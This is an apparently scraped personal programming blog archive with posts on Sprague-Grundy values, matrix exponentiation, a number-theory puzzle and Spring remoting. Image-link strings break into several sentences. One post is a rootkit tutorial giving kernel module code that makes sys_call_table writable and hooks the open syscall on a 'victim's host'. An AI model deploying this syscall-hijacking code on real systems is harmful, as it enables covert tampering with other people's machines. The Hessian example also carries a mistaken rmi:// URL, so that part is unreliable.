1. Mark all terminal nodes sg = 0 (In this case its 1 and 2 as the player will not be able to dividethem)
2. For each pile compute the sg value of it
3. Get the nim-sum of all the sg values of the piles, if 0 then BOB wins, else ALICE wins.

How to get the sg value of a number?

1. DFS all the possible divisions of this pile2. Recursively compue the sg values of all the possible divisions
3. Return the mex out of them

Now i am done explaining the whole topic, i think its really interesting and i suggest you solving more problems as i will do isA.

Saturday, October 13,2012

Matrix exponentiation to solve linear recurrence

The last weekend i was trying to solve a problem called Circle Summation on, if you have account you can view it using this link. However the problem is that we have N children sitting along a circle, numbered 1,2,...,N clockwise. The ith child has a piece of paper with number ai written on it.  They play the following game:

In the first round, the child numbered x adds to his number the sum of the numbers of his neighbors. In the second round, the child next in clockwise order adds to his number the sum of the numbers of his neighbors, and so on. The game ends after M rounds have been played.

Given N, M, and X's, Formulate the following output:Output N lines each having N integers. The jth integer on the ith line contains the number that the jth child ends up with if the game starts with child i playing the first round. Output a blank line after each test case except the last one. Since the numbers can be really huge, output them modulo 1000000007.

As you can see we can represent this problem as a linear recurrence where F(N) = F(N-1) + F(N) + F(N+1).

A linear recurrence is a sequence of numbers, in which we can compute the nth term from the existent of other terms (e.g., Fibonacci sequence).

For example in the fibonacci series we can represent the sequence using the following recurrence equation:

F_n = F_{n-1} + F_{n-2},\!\, Where F_0 = 0,\; F_1 = 1.

Now by looking into thefollowing recurrence we can represent it with this equation xi+1 = Mxi, for some constant matrix M.

| f(n+1) | = | 1 1 | x | f(n)   |
| f(n)   |   | 1 0 |   | f(n-1) |        => (1)

From (1) We can see that we can find F(N), by solving M^n. (Prove it, using math induction).

By analyzing the previous equation we can find that we will do O(M^3) operations for matrix multiplication where M is a very small number, and for the power function we can do it in O(Log(N)) operations, that will lead us to O(M^3 Log(N)) to solve fibonacci numbers.

Now, Can you solve the circle summation problem? :).. I solved it..

Friday, October 5, 2012

Number of positive integral solutions for an equation

In this post i will explain my solution for a very nice mathematical problem. If you have an account on interviewstreet, you can view it using this link EQUATIONS. However in this problem you have the following equation (1/X) + (1/Y) = 1/N! and N is given, And you have to find all the valid pairs of X, and Y that solve this problem.

One can say that the simplest way is to iterate through all possible Xs, and Ys checking the pairs that solve the equation. But what if N is equal 10^6 for example?.

First lets define M = N!, then we have:


Lets also define that X = M+a and Y = M+b. where (a, b) could be positive or negative numbers, then we have:

We can solve the above equation and we will get the following:


Now look at all the divisors of M2=(N!)2 and find the values of a and b and hence find the values of x and y.

So we need to know how many divisors (N!)^2 have. As you may know that the number of divisors of a number equals the result of multiplying the exponents of the prime factors of this number.
So if we have n = a^x * b^y * c^z, where (a, b, c) are the prime factors of n,then the number of divisors of n = (x+1)*(y+1)*(z+1), I hear you asking why?

As you can see that all the divisors of n are multipliers of the prime factors of n.

So a could be chosen (x+1) times (0, 1, 2, ... x) times,
b could be chosen (y+1) times (0, 1, 2, .... y) times,
c could be chosen (z+1) times (0, 1, 2, ... z) times.

Now you have all the ideas that make a solution, show me your skills :)

Sunday, September 16, 2012

Java: Spring Framework 2.x Remoting Support

Welcome to my first post after my wedding vacation. In this post i will introduce Spring's support for various remoting technologies, such as RMI, Hessian, Burlap, HTTP Invoker, and Web Services.I will introduce Spring Web Services in a another post, but in this post i will briefly explain the other techniques.

Table of Contents

  • Introduction
  • Spring RMI "Remote Method Invocation" support
    • Exposing an RMI service
    • Invoking an RMI service
  • Spring Exposing/Invoking services through HTTP
    • Hessian
    • Burlap
  • Conclusion
  • References

Remoting is a key technology in developing distributed applications, especially multitier enterprise applications. It allows different applications, or components running on different JVMs or on different machines tocommunicate and work together using a specific protocol.

Spring RMI "Remote Method Invocation" supportRMI is a java based remoting technology that allows two java applications running on different JVMs and/or machines to communicate with each other. With RMI an object can call the methods of another remote object. RMI relies on object serialization to marshal and unmarshal method arguments and return values.

Suppose you would like to expose a weather service as an RMI service. To use Spring’s remoting facilities for this purpose, create a bean configuration file such as rmi-server.xml in the classpath root to define the service. In this file, you declare a bean for the weather service implementation and export it as an RMI service by using RmiServiceExporter.

<beans xmlns=""
<bean id="weatherService"
class="com.example.WeatherServiceImpl" />
<bean class="org.springframework.remoting.rmi.RmiServiceExporter">
<property name="serviceName" value="WeatherService" />
<property name="serviceInterface"
value="com.example.WeatherService" />
<property name="service" ref="weatherService" />

In the rmi-server.xml example we have two beans configured one of them is a simple weather service bean, and the other one is to export this bean as RMI service using RMIServiceExporter. In the second bean we have different properties such as serviceName to configure the service name, and serviceInterface that is the interface of the implemented service, and theservice property that references the actual service.

By default, RmiServiceExporter attempts to look up an RMI registry at localhost port 1099. If it can’t find the RMIregistry, it will start a new one. However, if you would like to bind your service to another running RMI registry, you can specify the host and port of that registry in the registryHost and registryPort properties. Note that once you specify the registry host, RmiServiceExporter will not start a new registry, even if the specified registry doesn’t exist.
To start a server that provides the RMI weather service, run the following class to create an application context for the preceding bean configuration file:

public class RmiServer {
public static void main(String[] args) {
new ClassPathXmlApplicationContext("rmi-server.xml");

In a client environment you can use RmiProxyFactoryBean to create a proxy for the remote service and you can use this service as if it were a local bean. By setting the serviceUrl property of the RmiProxyFactoryBean to "rmi://localhost:1099/WeatherService" and serviceInterface property to "com.example.rmi.WeatherService" you will be able to use this service locally.

Spring Exposing/Invoking services through HTTP

As RMI communicates over its own protocol, which may not be able to pass through firewalls, you would like to expose a service from your Java application for clients to invoke over HTTP, which is allowed to pass through most firewalls.

Hessian and Burlap are two simple lightweight remoting technologies developed by Caucho Technology. They both communicate using proprietary messages over HTTP and have their own serialization mechanism, but they are much simpler than web services. The only difference between them is that Hessian communicates using binary messages while Burlap communicates using XML messages.

In addition to thepreceding two technologies, the Spring framework itself also offers a remoting technology called HTTP Invoker. It also communicates over HTTP, but uses Java’s object serialization mechanism to serialize objects. Unlike Hessian and Burlap, HTTP Invoker requires both sides of a service to be running on the Java platform and using the Spring framework. However, it can serialize all kinds of Java objects, some of which may not be serialized by Hessian/Burlap’s proprietary mechanism.

To expose a Hessian service with Spring, you have to create a web application using Spring MVC "Include hessian.jar".

To expose our WhetherService as a Hessian service using HessianServiceExporter.

<beans xmlns=""
<bean id="weatherService"
class="com.example.WeatherServiceImpl" />
<bean name="/WeatherService"
<property name="service" ref="weatherService" />
<property name="serviceInterface"
value="com.example.WeatherService" />

In a client environment you can use HessianProxyFactoryBean to create a proxy for the remote service and you can use this service as if it were a local bean. By setting the serviceUrl property of the HessianProxyFactoryBean to "rmi://localhost:1099/WeatherService" and serviceInterface property to "com.example.rmi.WeatherService" you will be able to use this service locally.

To expose a Burlap service use BurlapServiceExporter and to invoke it use BurlapProxyFactoryBean instead.

To expose a service using spring HTTP Invoker you need to use HttpInvokerServiceExporter and HttpInvokerProxyFactoryBean.


In this post, you have learned how to expose and invoke remote services with Spring’s remoting support. Spring builds in support for manyremoting technologies, such as RMI, Hessian, Burlap, and HTTP Invoker.

Spring’s remoting support is consistent across different remoting technologies. On the server side, Spring allows you to expose an arbitrary bean as a remoteservice through a service exporter. On the client side, Spring provides various proxy factory beans for you to create a local proxy for a remote service, so that you can use the remote service as if it were a local bean.

In the next post i will introduce Spring Web Services which is a yet another way for our applications to support remoting.


Friday, July 13, 2012

Hijacking linux system calls - RootKit

This is me again, but this time i will introduce how to develop a linux kernel module that intercepts linux system calls.

In this example i will sniff all the "open" system calls issued by the running processes on the victim's host checking if he is going to open a TAMER HOSNY's song and acting upon that :).

In order to do this we need to do the following:
  • Alter the system call table to refer to our fake method
  • Bypass the kernel write protection mode
The first step is not an easy task because we have two obstacles, the first of them is that the system call table is not exposed by the system no more, the second is that we don't have permission to edit it.

In order to overcome on the first one we will use the system map to know the address of the system call table.# cat /boot/ | grep sys_call_table

Now we have the address but we can't alter the table because its in read only mode, So we need to change its memory page from read only to read write mode using the following code:

int set_addr_rw(long unsigned int _addr)
    unsigned int level;
    pte_t *pte = lookup_address(_addr, &level);
    if (pte->pte &~ _PAGE_RW) pte->pte |= _PAGE_RW;

Now we can alter the table to point to our fake open system call:

asmlinkage int new_open(const char *pathname, int flags) {
  // hijacked open
  const char* my_path = "/home/husseincoder/Desktop/amr.mp3";
  int res;

  if(strstr(pathname, ".mp3") != NULL
&& strstr(pathname, "tamer") != NULL) {
     printk(KERN_ALERT "OPEN HIJACKED %s\n", pathname);
     memcpy(pathname,my_path, strlen(my_path)+1);
  return (*original_open)(pathname, flags);

And altering the sys call table in the init method:

syscall_table[__NR_open] = new_open;

When unloading themodule we need to clean up our mess by changing the sys call table page to read only again by calling this method

int set_addr_ro(long unsigned int _addr)
    unsigned int level;
    pte_t *pte = lookup_address(_addr, &level);

    pte->pte = pte->pte &~_PAGE_RW;

We can load the module this way:
# sudo insmod hijack-syscall.ko

Unload it this way:
# sudo rmmod hijack-syscall

Now the time for testing this ;)

You can download the source code from sourceforge.

See the video demo:

The post is finished and i hope you find it useful.

Thursday, April 19, 2012

Problem solving techniques (Example problems) (Cont.)

In this post i will show you when to use graphs to solve specific type of problems. To know about graphs and other problem solving techniques you may need to read this.

